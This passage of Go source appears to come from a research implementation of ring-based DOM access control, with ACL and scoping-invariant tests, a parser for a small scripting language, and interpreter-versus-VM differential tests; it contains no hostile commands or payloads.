	if err != nil {
		t.Fatal(err)
	}
	minted := d.ByID("minted")
	if minted == nil {
		t.Fatal("minted div missing")
	}
	if minted.Ring != 3 {
		t.Errorf("minted ring = %d, want clamped 3", minted.Ring)
	}
	if sneak := d.ByID("sneak"); sneak.Ring != 3 {
		t.Errorf("sneak script ring = %d, want 3", sneak.Ring)
	}
	if bad := d.CheckScopingInvariant(); bad != nil {
		t.Errorf("scoping invariant violated at %v", bad)
	}
}

func TestSetInnerHTMLDeniedByACL(t *testing.T) {
	d := blogDoc()
	post := d.ByID("post")
	// Post write ceiling is 0; ring 1 may not rewrite it.
	if err := api(d, 1).SetInnerHTML(post, "<b>defaced</b>"); err == nil {
		t.Error("ring 1 must not rewrite the post (w=0)")
	}
	if err := api(d, 0).SetInnerHTML(post, "<b>edited</b>"); err != nil {
		t.Errorf("ring 0 rewrite: %v", err)
	}
	if got := html.InnerText(post); got != "edited" {
		t.Errorf("post text = %q", got)
	}
}

func TestAppendChildClamping(t *testing.T) {
	d := blogDoc()
	a := api(d, 1)
	el := a.CreateElement("span")
	if el.Ring != 1 {
		t.Errorf("created element ring = %d, want creator's 1", el.Ring)
	}
	// Appending under the ring-3 comment clamps the subtree to 3.
	c1 := d.ByID("comment1")
	mod := api(d, 2) // ring 2 may write comments
	child := mod.CreateElement("b")
	grand := mod.CreateTextNode("hi")
	child.AppendChild(grand)
	if err := mod.AppendChild(c1, child); err != nil {
		t.Fatal(err)
	}
	if child.Ring != 3 || child.Kids[0].Ring != 3 {
		t.Errorf("appended subtree rings = %d,%d; want 3,3", child.Ring, child.Kids[0].Ring)
	}
}

func TestRemoveChild(t *testing.T) {
	d := blogDoc()
	c1 := d.ByID("comment1")
	text := c1.Kids[0]
	if err := api(d, 3).RemoveChild(c1, text); err == nil {
		t.Error("ring 3 must not edit another comment (w=2)")
	}
	if err := api(d, 2).RemoveChild(c1, text); err != nil {
		t.Fatal(err)
	}
	if len(c1.Kids) != 0 {
		t.Error("child not removed")
	}
	if err := api(d, 2).RemoveChild(c1, text); !errors.Is(err, ErrDetached) {
		t.Errorf("double remove err = %v, want ErrDetached", err)
	}
}

func TestGetElementsByTagNameFiltersUnreadable(t *testing.T) {
	d := blogDoc()
	// Ring 3 sees only scripts it can read: appjs is ring 1 (r=1) —
	// unreadable; evil is ring 3 (r=2) — also unreadable by ring 3!
	got := api(d, 3).GetElementsByTagName("script")
	if len(got) != 0 {
		t.Errorf("ring 3 sees %d scripts, want 0", len(got))
	}
	got = api(d, 1).GetElementsByTagName("script")
	if len(got) != 2 {
		t.Errorf("ring 1 sees %d scripts, want 2", len(got))
	}
}

func TestInnerHTMLRead(t *testing.T) {
	d := blogDoc()
	s, err := api(d, 1).InnerHTML(d.ByID("post"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s, "Original post") {
		t.Errorf("InnerHTML = %q", s)
	}
	if strings.Contains(s, "ring") {
		t.Errorf("InnerHTML leaks configuration: %q", s)
	}
	if _, err := api(d, 3).InnerHTML(d.ByID("post")); err == nil {
		t.Error("ring 3 must not read the post")
	}
}

func TestLegacyDocumentSOPBehavior(t *testing.T) {
	// A legacy page (no ESCUDO config) under the SOP monitor: any
	// same-origin principal does anything (§2.3's failure mode).
	d := NewDocument(site, `<div id=x ring=2>keep</div>`, html.LegacyOptions())
	a := NewAPI(d, core.Principal(site, 0, "p"), &core.SOPMonitor{})
	if err := a.SetText(d.ByID("x"), "changed"); err != nil {
		t.Fatalf("SOP same-origin write: %v", err)
	}
	// The ring attribute is ordinary markup on a legacy page.
	if v, err := a.GetAttribute(d.ByID("x"), "ring"); err != nil || v != "2" {
		t.Errorf("legacy ring attr = %q, %v", v, err)
	}
}

func TestNodeContextLabels(t *testing.T) {
	d := blogDoc()
	ctx := d.NodeContext(d.ByID("post"))
	if ctx.Label != "div#post" {
		t.Errorf("label = %q", ctx.Label)
	}
	if ctx.Ring != 2 || ctx.Origin != site {
		t.Errorf("ctx = %v", ctx)
	}
	if got := d.NodeContext(d.Root).Label; got != "#document" {
		t.Errorf("document label = %q", got)
	}
}

func TestByTag(t *testing.T) {
	d := blogDoc()
	divs := d.ByTag("div")
	if len(divs) != 4 {
		t.Errorf("divs = %d, want 4", len(divs))
	}
}

// Property: no sequence of mediated mutations violates the scoping
// invariant.
func TestScopingInvariantUnderRandomMutations(t *testing.T) {
	type step struct {
		Op       uint8
		Ring     uint8
		TargetID uint8
		Payload  uint8
	}
	ids := []string{"app", "post", "comment1", "comment2", "appjs", "evil"}
	payloads := []string{
		`<div ring=0>up</div>`,
		`<b>text</b>`,
		`<div ring=3><div ring=1>deep</div></div>`,
		`plain`,
	}
	f := func(steps []step) bool {
		d := blogDoc()
		for _, s := range steps {
			a := api(d, core.Ring(s.Ring%4))
			target := d.ByID(ids[int(s.TargetID)%len(ids)])
			if target == nil {
				continue
			}
			switch s.Op % 4 {
			case 0:
				_ = a.SetInnerHTML(target, payloads[int(s.Payload)%len(payloads)])
			case 1:
				el := a.CreateElement("span")
				_ = a.AppendChild(target, el)
			case 2:
				_ = a.SetText(target, "t")
			case 3:
				if len(target.Kids) > 0 {
					_ = a.RemoveChild(target, target.Kids[0])
				}
			}
		}
		return d.CheckScopingInvariant() == nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
