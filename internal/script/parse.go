package script

import (
	"fmt"
	"strconv"
)

// parser builds the AST from tokens.
type parser struct {
	toks []token
	pos  int
}

// Parse parses a complete script.
func Parse(src string) (*Program, error) {
	toks, err := lex(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	var body []Stmt
	for !p.at(tokEOF, "") {
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		body = append(body, s)
	}
	return &Program{Body: body}, nil
}

// peek returns the current token without consuming it.
func (p *parser) peek() token { return p.toks[p.pos] }

// advance consumes and returns the current token.
func (p *parser) advance() token {
	t := p.toks[p.pos]
	if t.kind != tokEOF {
		p.pos++
	}
	return t
}

// at reports whether the current token matches kind (and text, when
// non-empty).
func (p *parser) at(kind tokenKind, text string) bool {
	t := p.peek()
	return t.kind == kind && (text == "" || t.text == text)
}

// accept consumes the current token if it matches.
func (p *parser) accept(kind tokenKind, text string) bool {
	if p.at(kind, text) {
		p.advance()
		return true
	}
	return false
}

// expect consumes a required token or fails.
func (p *parser) expect(kind tokenKind, text string) (token, error) {
	if p.at(kind, text) {
		return p.advance(), nil
	}
	t := p.peek()
	return token{}, &SyntaxError{Line: t.line, Msg: fmt.Sprintf("expected %q, found %q", text, t.text)}
}

// statement parses one statement.
func (p *parser) statement() (Stmt, error) {
	t := p.peek()
	switch {
	case t.kind == tokKeyword && t.text == "var":
		return p.varStatement()
	case t.kind == tokKeyword && t.text == "function":
		return p.funcDeclaration()
	case t.kind == tokKeyword && t.text == "if":
		return p.ifStatement()
	case t.kind == tokKeyword && t.text == "while":
		return p.whileStatement()
	case t.kind == tokKeyword && t.text == "for":
		return p.forStatement()
	case t.kind == tokKeyword && t.text == "return":
		p.advance()
		var x Expr
		if !p.at(tokPunct, ";") && !p.at(tokPunct, "}") && !p.at(tokEOF, "") {
			var err error
			x, err = p.expression()
			if err != nil {
				return nil, err
			}
		}
		p.accept(tokPunct, ";")
		return &ReturnStmt{X: x, Line: t.line}, nil
	case t.kind == tokKeyword && t.text == "break":
		p.advance()
		p.accept(tokPunct, ";")
		return &BreakStmt{Line: t.line}, nil
	case t.kind == tokKeyword && t.text == "continue":
		p.advance()
		p.accept(tokPunct, ";")
		return &ContinueStmt{Line: t.line}, nil
	case t.kind == tokPunct && t.text == "{":
		body, err := p.block()
		if err != nil {
			return nil, err
		}
		return &BlockStmt{Body: body, Line: t.line}, nil
	case t.kind == tokPunct && t.text == ";":
		p.advance()
		return &BlockStmt{Line: t.line}, nil
	default:
		x, err := p.expression()
		if err != nil {
			return nil, err
		}
		p.accept(tokPunct, ";")
		return &ExprStmt{X: x, Line: t.line}, nil
	}
}

// varStatement parses "var name [= expr] [, name [= expr]]* ;" —
// multiple declarators desugar to a block.
func (p *parser) varStatement() (Stmt, error) {
	kw := p.advance() // var
	var decls []*VarStmt
	for {
		name, err := p.expect(tokIdent, "")
		if err != nil {
			return nil, err
		}
		var init Expr
		if p.accept(tokPunct, "=") {
			init, err = p.assignment()
			if err != nil {
				return nil, err
			}
		}
		decls = append(decls, &VarStmt{Name: name.text, Init: init, Line: name.line})
		if !p.accept(tokPunct, ",") {
			break
		}
	}
	p.accept(tokPunct, ";")
	if len(decls) == 1 {
		return decls[0], nil
	}
	return &VarListStmt{Decls: decls, Line: kw.line}, nil
}

// funcDeclaration parses "function name(params) {body}".
func (p *parser) funcDeclaration() (Stmt, error) {
	kw := p.advance() // function
	name, err := p.expect(tokIdent, "")
	if err != nil {
		return nil, err
	}
	fn, err := p.funcRest(kw.line)
	if err != nil {
		return nil, err
	}
	return &FuncDeclStmt{Name: name.text, Fn: fn, Line: kw.line}, nil
}

// funcRest parses "(params) {body}" after the function keyword (and
// optional name).
func (p *parser) funcRest(line int) (*FuncLit, error) {
	if _, err := p.expect(tokPunct, "("); err != nil {
		return nil, err
	}
	var params []string
	for !p.at(tokPunct, ")") {
		name, err := p.expect(tokIdent, "")
		if err != nil {
			return nil, err
		}
		params = append(params, name.text)
		if !p.accept(tokPunct, ",") {
			break
		}
	}
	if _, err := p.expect(tokPunct, ")"); err != nil {
		return nil, err
	}
	body, err := p.block()
	if err != nil {
		return nil, err
	}
	return &FuncLit{Params: params, Body: body, Line: line}, nil
}

// block parses "{ statements }".
func (p *parser) block() ([]Stmt, error) {
	if _, err := p.expect(tokPunct, "{"); err != nil {
		return nil, err
	}
	var body []Stmt
	for !p.at(tokPunct, "}") && !p.at(tokEOF, "") {
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		body = append(body, s)
	}
	if _, err := p.expect(tokPunct, "}"); err != nil {
		return nil, err
	}
	return body, nil
}

// ifStatement parses if (cond) block [else (if | block)].
func (p *parser) ifStatement() (Stmt, error) {
	kw := p.advance()
	if _, err := p.expect(tokPunct, "("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(tokPunct, ")"); err != nil {
		return nil, err
	}
	then, err := p.blockOrSingle()
	if err != nil {
		return nil, err
	}
	var els []Stmt
	if p.accept(tokKeyword, "else") {
		if p.at(tokKeyword, "if") {
			s, err := p.ifStatement()
			if err != nil {
				return nil, err
			}
			els = []Stmt{s}
		} else {
			els, err = p.blockOrSingle()
			if err != nil {
				return nil, err
			}
		}
	}
	return &IfStmt{Cond: cond, Then: then, Else: els, Line: kw.line}, nil
}

// blockOrSingle parses either a braced block or a single statement.
func (p *parser) blockOrSingle() ([]Stmt, error) {
	if p.at(tokPunct, "{") {
		return p.block()
	}
	s, err := p.statement()
	if err != nil {
		return nil, err
	}
	return []Stmt{s}, nil
}

// whileStatement parses while (cond) body.
func (p *parser) whileStatement() (Stmt, error) {
	kw := p.advance()
	if _, err := p.expect(tokPunct, "("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(tokPunct, ")"); err != nil {
		return nil, err
	}
	body, err := p.blockOrSingle()
	if err != nil {
		return nil, err
	}
	return &WhileStmt{Cond: cond, Body: body, Line: kw.line}, nil
}

// forStatement parses for (init; cond; post) body.
func (p *parser) forStatement() (Stmt, error) {
	kw := p.advance()
	if _, err := p.expect(tokPunct, "("); err != nil {
		return nil, err
	}
	var init Stmt
	if !p.at(tokPunct, ";") {
		var err error
		if p.at(tokKeyword, "var") {
			init, err = p.varStatement() // consumes its own ';'
		} else {
			var x Expr
			x, err = p.expression()
			init = &ExprStmt{X: x, Line: kw.line}
			if err == nil {
				_, err = p.expect(tokPunct, ";")
			}
		}
		if err != nil {
			return nil, err
		}
	} else {
		p.advance()
	}
	var cond Expr
	if !p.at(tokPunct, ";") {
		var err error
		cond, err = p.expression()
		if err != nil {
			return nil, err
		}
	}
	if _, err := p.expect(tokPunct, ";"); err != nil {
		return nil, err
	}
	var post Stmt
	if !p.at(tokPunct, ")") {
		x, err := p.expression()
		if err != nil {
			return nil, err
		}
		post = &ExprStmt{X: x, Line: kw.line}
	}
	if _, err := p.expect(tokPunct, ")"); err != nil {
		return nil, err
	}
	body, err := p.blockOrSingle()
	if err != nil {
		return nil, err
	}
	return &ForStmt{Init: init, Cond: cond, Post: post, Body: body, Line: kw.line}, nil
}

// expression parses a full expression (assignment level).
func (p *parser) expression() (Expr, error) { return p.assignment() }

// assignment parses right-associative assignment.
func (p *parser) assignment() (Expr, error) {
	left, err := p.conditional()
	if err != nil {
		return nil, err
	}
	t := p.peek()
	if t.kind == tokPunct {
		switch t.text {
		case "=", "+=", "-=", "*=", "/=":
			switch left.(type) {
			case *Ident, *MemberExpr, *IndexExpr:
			default:
				return nil, &SyntaxError{Line: t.line, Msg: "invalid assignment target"}
			}
			p.advance()
			value, err := p.assignment()
			if err != nil {
				return nil, err
			}
			return &AssignExpr{Op: t.text, Target: left, Value: value, Line: t.line}, nil
		}
	}
	return left, nil
}

// conditional parses the ternary operator.
func (p *parser) conditional() (Expr, error) {
	cond, err := p.binary(0)
	if err != nil {
		return nil, err
	}
	if !p.at(tokPunct, "?") {
		return cond, nil
	}
	q := p.advance()
	then, err := p.assignment()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(tokPunct, ":"); err != nil {
		return nil, err
	}
	els, err := p.assignment()
	if err != nil {
		return nil, err
	}
	return &CondExpr{Cond: cond, Then: then, Else: els, Line: q.line}, nil
}

// binaryPrec maps operators to precedence levels (higher binds
// tighter).
var binaryPrec = map[string]int{
	"||": 1,
	"&&": 2,
	"==": 3, "!=": 3, "===": 3, "!==": 3,
	"<": 4, ">": 4, "<=": 4, ">=": 4,
	"+": 5, "-": 5,
	"*": 6, "/": 6, "%": 6,
}

// binary parses binary operators with precedence climbing.
func (p *parser) binary(minPrec int) (Expr, error) {
	left, err := p.unary()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		if t.kind != tokPunct {
			return left, nil
		}
		prec, ok := binaryPrec[t.text]
		if !ok || prec < minPrec {
			return left, nil
		}
		p.advance()
		right, err := p.binary(prec + 1)
		if err != nil {
			return nil, err
		}
		op := t.text
		// === and !== behave as == and != (no coercion anywhere).
		if op == "===" {
			op = "=="
		}
		if op == "!==" {
			op = "!="
		}
		left = &BinaryExpr{Op: op, L: left, R: right, Line: t.line}
	}
}

// unary parses prefix operators.
func (p *parser) unary() (Expr, error) {
	t := p.peek()
	if t.kind == tokPunct && (t.text == "!" || t.text == "-") {
		p.advance()
		x, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &UnaryExpr{Op: t.text, X: x, Line: t.line}, nil
	}
	if t.kind == tokKeyword && t.text == "typeof" {
		p.advance()
		x, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &UnaryExpr{Op: "typeof", X: x, Line: t.line}, nil
	}
	if t.kind == tokKeyword && t.text == "new" {
		p.advance()
		callee, err := p.postfix()
		if err != nil {
			return nil, err
		}
		// The postfix parse may already have consumed the call; a
		// bare constructor reference gets empty args.
		if call, ok := callee.(*CallExpr); ok {
			return &NewExpr{Fn: call.Fn, Args: call.Args, Line: t.line}, nil
		}
		return &NewExpr{Fn: callee, Line: t.line}, nil
	}
	return p.postfix()
}

// postfix parses primary expressions followed by call, member, and
// index suffixes.
func (p *parser) postfix() (Expr, error) {
	x, err := p.primary()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		if t.kind != tokPunct {
			return x, nil
		}
		switch t.text {
		case "(":
			p.advance()
			var args []Expr
			for !p.at(tokPunct, ")") {
				a, err := p.assignment()
				if err != nil {
					return nil, err
				}
				args = append(args, a)
				if !p.accept(tokPunct, ",") {
					break
				}
			}
			if _, err := p.expect(tokPunct, ")"); err != nil {
				return nil, err
			}
			x = &CallExpr{Fn: x, Args: args, Line: t.line}
		case ".":
			p.advance()
			name := p.advance()
			if name.kind != tokIdent && name.kind != tokKeyword {
				return nil, &SyntaxError{Line: name.line, Msg: "expected property name"}
			}
			x = &MemberExpr{X: x, Name: name.text, Line: t.line}
		case "[":
			p.advance()
			idx, err := p.expression()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(tokPunct, "]"); err != nil {
				return nil, err
			}
			x = &IndexExpr{X: x, Index: idx, Line: t.line}
		case "++", "--":
			// Postfix increment desugars to compound assignment;
			// its value is the updated value (sufficient here).
			p.advance()
			op := "+="
			if t.text == "--" {
				op = "-="
			}
			switch x.(type) {
			case *Ident, *MemberExpr, *IndexExpr:
				x = &AssignExpr{Op: op, Target: x, Value: &NumberLit{Value: 1}, Line: t.line}
			default:
				return nil, &SyntaxError{Line: t.line, Msg: "invalid increment target"}
			}
		default:
			return x, nil
		}
	}
}

// primary parses literals, identifiers, grouping, and literals for
// objects, arrays, and functions.
func (p *parser) primary() (Expr, error) {
	t := p.peek()
	switch {
	case t.kind == tokNumber:
		p.advance()
		v, err := strconv.ParseFloat(t.text, 64)
		if err != nil {
			return nil, &SyntaxError{Line: t.line, Msg: "bad number " + t.text}
		}
		return &NumberLit{Value: v}, nil
	case t.kind == tokString:
		p.advance()
		return &StringLit{Value: t.text}, nil
	case t.kind == tokKeyword && (t.text == "true" || t.text == "false"):
		p.advance()
		return &BoolLit{Value: t.text == "true"}, nil
	case t.kind == tokKeyword && t.text == "null":
		p.advance()
		return &NullLit{}, nil
	case t.kind == tokKeyword && t.text == "function":
		p.advance()
		// Optional name on function expressions is accepted and
		// ignored (it only matters for recursion via the name, which
		// declarations cover).
		if p.at(tokIdent, "") {
			p.advance()
		}
		return p.funcRest(t.line)
	case t.kind == tokIdent:
		p.advance()
		return &Ident{Name: t.text, Line: t.line}, nil
	case t.kind == tokPunct && t.text == "(":
		p.advance()
		x, err := p.expression()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(tokPunct, ")"); err != nil {
			return nil, err
		}
		return x, nil
	case t.kind == tokPunct && t.text == "{":
		return p.objectLit()
	case t.kind == tokPunct && t.text == "[":
		return p.arrayLit()
	}
	return nil, &SyntaxError{Line: t.line, Msg: fmt.Sprintf("unexpected token %q", t.text)}
}

// objectLit parses {k: v, "k2": v2}.
func (p *parser) objectLit() (Expr, error) {
	open := p.advance() // {
	lit := &ObjectLit{Line: open.line}
	for !p.at(tokPunct, "}") {
		key := p.advance()
		if key.kind != tokIdent && key.kind != tokString && key.kind != tokKeyword {
			return nil, &SyntaxError{Line: key.line, Msg: "expected property key"}
		}
		if _, err := p.expect(tokPunct, ":"); err != nil {
			return nil, err
		}
		v, err := p.assignment()
		if err != nil {
			return nil, err
		}
		lit.Keys = append(lit.Keys, key.text)
		lit.Values = append(lit.Values, v)
		if !p.accept(tokPunct, ",") {
			break
		}
	}
	if _, err := p.expect(tokPunct, "}"); err != nil {
		return nil, err
	}
	return lit, nil
}

// arrayLit parses [a, b, c].
func (p *parser) arrayLit() (Expr, error) {
	open := p.advance() // [
	lit := &ArrayLit{Line: open.line}
	for !p.at(tokPunct, "]") {
		v, err := p.assignment()
		if err != nil {
			return nil, err
		}
		lit.Elems = append(lit.Elems, v)
		if !p.accept(tokPunct, ",") {
			break
		}
	}
	if _, err := p.expect(tokPunct, "]"); err != nil {
		return nil, err
	}
	return lit, nil
}
