package script

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
)

// run executes source on BOTH engines — the tree-walking interpreter
// and the compiled VM — asserts they agree on the result, console
// output, and step count, and returns the interpreter's value. Every
// table-driven semantics test in this package is therefore a
// differential test for free.
func run(t *testing.T, src string) Value {
	t.Helper()
	prog, err := Parse(src)
	if err != nil {
		t.Fatalf("run(%q): %v", src, err)
	}
	folded := Fold(prog)

	ic := &Console{}
	ip := &Interp{}
	iv, ierr := ip.Run(folded, StdEnv(ic))
	if ierr != nil {
		t.Fatalf("run(%q): %v", src, ierr)
	}

	vc := &Console{}
	vm := &VM{}
	vv, verr := vm.Run(Compile(folded), StdEnv(vc))
	if verr != nil {
		t.Fatalf("run(%q): vm: %v (interp succeeded)", src, verr)
	}
	if ToString(iv) != ToString(vv) || TypeOf(iv) != TypeOf(vv) {
		t.Fatalf("run(%q): engines disagree: interp %v (%s), vm %v (%s)",
			src, iv, TypeOf(iv), vv, TypeOf(vv))
	}
	if il, vl := ic.Lines(), vc.Lines(); strings.Join(il, "\n") != strings.Join(vl, "\n") {
		t.Fatalf("run(%q): console diverges: interp %v, vm %v", src, il, vl)
	}
	if ip.Steps() != vm.Steps() {
		t.Fatalf("run(%q): step counts diverge: interp %d, vm %d", src, ip.Steps(), vm.Steps())
	}
	return iv
}

func TestArithmetic(t *testing.T) {
	tests := []struct {
		src  string
		want Value
	}{
		{"1 + 2 * 3;", float64(7)},
		{"(1 + 2) * 3;", float64(9)},
		{"10 / 4;", float64(2.5)},
		{"7 % 3;", float64(1)},
		{"-5 + 2;", float64(-3)},
		{"1 < 2;", true},
		{"2 <= 2;", true},
		{"3 > 4;", false},
		{"1 == 1;", true},
		{"1 != 2;", true},
		{"1 === 1;", true},
		{"1 !== 1;", false},
		{`"a" + "b";`, "ab"},
		{`"n=" + 42;`, "n=42"},
		{`"a" < "b";`, true},
		{"true && false;", false},
		{"true || false;", true},
		{"!true;", false},
		{"null == null;", true},
		{`1 == "1";`, false}, // no coercion
		{"1 ? 2 : 3;", float64(2)},
		{"0 ? 2 : 3;", float64(3)},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestVariablesAndScope(t *testing.T) {
	if got := run(t, "var x = 1; var y = x + 2; y;"); !Equals(got, float64(3)) {
		t.Errorf("got %v", got)
	}
	// Multiple declarators.
	if got := run(t, "var a = 1, b = 2; a + b;"); !Equals(got, float64(3)) {
		t.Errorf("got %v", got)
	}
	// Block scoping for var (simplified lexical semantics).
	got := run(t, `var x = 1; if (true) { var x = 2; } x;`)
	if !Equals(got, float64(1)) {
		t.Errorf("inner var must shadow, got %v", got)
	}
	// Assignment reaches the outer variable.
	got = run(t, `var x = 1; if (true) { x = 2; } x;`)
	if !Equals(got, float64(2)) {
		t.Errorf("assignment must mutate outer, got %v", got)
	}
}

func TestControlFlow(t *testing.T) {
	src := `
var total = 0;
for (var i = 0; i < 10; i++) {
  if (i % 2 == 0) { continue; }
  if (i > 7) { break; }
  total += i;
}
total;`
	if got := run(t, src); !Equals(got, float64(1+3+5+7)) {
		t.Errorf("got %v", got)
	}
	src = `var n = 0; while (n < 5) { n = n + 1; } n;`
	if got := run(t, src); !Equals(got, float64(5)) {
		t.Errorf("got %v", got)
	}
	src = `var r = ""; if (false) { r = "a"; } else if (true) { r = "b"; } else { r = "c"; } r;`
	if got := run(t, src); !Equals(got, "b") {
		t.Errorf("got %v", got)
	}
}

func TestFunctionsAndClosures(t *testing.T) {
	src := `
function makeCounter() {
  var n = 0;
  return function() { n = n + 1; return n; };
}
var c = makeCounter();
c(); c(); c();`
	if got := run(t, src); !Equals(got, float64(3)) {
		t.Errorf("closure counter = %v", got)
	}
	src = `function add(a, b) { return a + b; } add(2, 3);`
	if got := run(t, src); !Equals(got, float64(5)) {
		t.Errorf("got %v", got)
	}
	// Missing args are null; extra args available via arguments.
	src = `function f(a) { return arguments.length; } f(1, 2, 3);`
	if got := run(t, src); !Equals(got, float64(3)) {
		t.Errorf("arguments.length = %v", got)
	}
	src = `function f(a, b) { return b == null; } f(1);`
	if got := run(t, src); !Equals(got, true) {
		t.Errorf("missing arg = %v", got)
	}
	// Recursion.
	src = `function fib(n) { if (n < 2) { return n; } return fib(n-1) + fib(n-2); } fib(10);`
	if got := run(t, src); !Equals(got, float64(55)) {
		t.Errorf("fib(10) = %v", got)
	}
}

func TestObjectsAndArrays(t *testing.T) {
	src := `var o = {a: 1, "b": 2}; o.c = o.a + o["b"]; o.c;`
	if got := run(t, src); !Equals(got, float64(3)) {
		t.Errorf("got %v", got)
	}
	src = `var a = [1, 2, 3]; a.push(4); a[0] + a[3] + a.length;`
	if got := run(t, src); !Equals(got, float64(9)) {
		t.Errorf("got %v", got)
	}
	src = `var a = [1,2,3]; a.join("-");`
	if got := run(t, src); !Equals(got, "1-2-3") {
		t.Errorf("got %v", got)
	}
	src = `var a = []; a[2] = 9; a.length;`
	if got := run(t, src); !Equals(got, float64(3)) {
		t.Errorf("sparse assign length = %v", got)
	}
}

func TestStringMethods(t *testing.T) {
	tests := []struct {
		src  string
		want Value
	}{
		{`"hello".length;`, float64(5)},
		{`"hello".indexOf("ll");`, float64(2)},
		{`"hello".indexOf("z");`, float64(-1)},
		{`"hello".substring(1, 3);`, "el"},
		{`"hello".toUpperCase();`, "HELLO"},
		{`"HeLLo".toLowerCase();`, "hello"},
		{`"a,b,c".split(",").length;`, float64(3)},
		{`"aaa".replace("a", "b");`, "baa"},
		{`"abc".charAt(1);`, "b"},
		{`"abc"[1];`, "b"},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestBuiltins(t *testing.T) {
	tests := []struct {
		src  string
		want Value
	}{
		{`String(42);`, "42"},
		{`Number("3.5");`, float64(3.5)},
		{`parseInt("42abc");`, float64(42)},
		{`isNaN(Number("zzz"));`, true},
		{`encodeURIComponent("a b&c");`, "a+b%26c"},
		{`Math.floor(3.7);`, float64(3)},
		{`Math.max(1, 5, 3);`, float64(5)},
		{`Math.min(4, 2);`, float64(2)},
		{`Math.abs(-7);`, float64(7)},
		{`typeof "s";`, "string"},
		{`typeof 1;`, "number"},
		{`typeof null;`, "null"},
		{`typeof {};`, "object"},
		{`typeof function(){};`, "function"},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestConsoleCapture(t *testing.T) {
	console := &Console{}
	ip := &Interp{}
	_, err := ip.RunSource(`log("hello", 42); console.log("second");`, StdEnv(console))
	if err != nil {
		t.Fatal(err)
	}
	lines := console.Lines()
	if len(lines) != 2 || lines[0] != "hello 42" || lines[1] != "second" {
		t.Errorf("lines = %v", lines)
	}
}

func TestAttemptSwallowsErrors(t *testing.T) {
	src := `
var ok1 = attempt(function() { return undefined_variable; });
var ok2 = attempt(function() { return 1; });
[ok1, ok2].join(",");`
	if got := run(t, src); !Equals(got, "false,true") {
		t.Errorf("got %v", got)
	}
}

func TestRuntimeErrors(t *testing.T) {
	ip := &Interp{}
	cases := []string{
		`undefined_var;`,
		`null.prop;`,
		`var x = 1; x();`,
		`"a" - 1;`,
		`var o = {}; o.missing();`,
	}
	for _, src := range cases {
		if _, err := ip.RunSource(src, StdEnv(&Console{})); err == nil {
			t.Errorf("%s: want error", src)
		} else {
			var re *RuntimeError
			if !errors.As(err, &re) {
				t.Errorf("%s: err %T not RuntimeError", src, err)
			}
		}
	}
}

func TestSyntaxErrors(t *testing.T) {
	cases := []string{
		`var;`,
		`if (true {`,
		`function (){}`,
		`1 +;`,
		`"unterminated`,
		`var x = @;`,
		`1 = 2;`,
		`{a: }`,
	}
	for _, src := range cases {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q): want error", src)
		} else {
			var se *SyntaxError
			if !errors.As(err, &se) {
				t.Errorf("Parse(%q): err %T not SyntaxError", src, err)
			}
		}
	}
}

func TestStepBudget(t *testing.T) {
	ip := &Interp{MaxSteps: 1000}
	_, err := ip.RunSource(`while (true) { }`, StdEnv(&Console{}))
	if !errors.Is(err, ErrTooManySteps) {
		t.Errorf("err = %v, want ErrTooManySteps", err)
	}
}

func TestComments(t *testing.T) {
	src := `
// line comment
var x = 1; /* block
comment */ var y = 2;
x + y;`
	if got := run(t, src); !Equals(got, float64(3)) {
		t.Errorf("got %v", got)
	}
}

func TestNewExpr(t *testing.T) {
	env := StdEnv(&Console{})
	env.Define("Thing", NativeFunc(func(args []Value) (Value, error) {
		o := NewObject()
		if len(args) > 0 {
			o.Props["x"] = args[0]
		}
		return o, nil
	}))
	ip := &Interp{}
	v, err := ip.RunSource(`var t = new Thing(7); t.x;`, env)
	if err != nil {
		t.Fatal(err)
	}
	if !Equals(v, float64(7)) {
		t.Errorf("got %v", v)
	}
	// new without parens.
	v, err = ip.RunSource(`var t = new Thing; typeof t;`, env)
	if err != nil {
		t.Fatal(err)
	}
	if !Equals(v, "object") {
		t.Errorf("got %v", v)
	}
}

func TestCompoundAssignment(t *testing.T) {
	tests := []struct {
		src  string
		want Value
	}{
		{`var x = 5; x += 3; x;`, float64(8)},
		{`var x = 5; x -= 3; x;`, float64(2)},
		{`var x = 5; x *= 3; x;`, float64(15)},
		{`var x = 6; x /= 3; x;`, float64(2)},
		{`var o = {n: 1}; o.n += 2; o.n;`, float64(3)},
		{`var a = [1]; a[0] += 9; a[0];`, float64(10)},
		{`var s = "a"; s += "b"; s;`, "ab"},
		{`var i = 0; i++; i++; i;`, float64(2)},
		{`var i = 5; i--; i;`, float64(4)},
	}
	for _, tt := range tests {
		if got := run(t, tt.src); !Equals(got, tt.want) {
			t.Errorf("%s = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestEscapesInStrings(t *testing.T) {
	if got := run(t, `"a\nb".length;`); !Equals(got, float64(3)) {
		t.Errorf("got %v", got)
	}
	if got := run(t, `'it\'s';`); !Equals(got, "it's") {
		t.Errorf("got %v", got)
	}
	if got := run(t, `"tab\there";`); !Equals(got, "tab\there") {
		t.Errorf("got %v", got)
	}
}

func TestToString(t *testing.T) {
	tests := []struct {
		v    Value
		want string
	}{
		{nil, "null"},
		{float64(42), "42"},
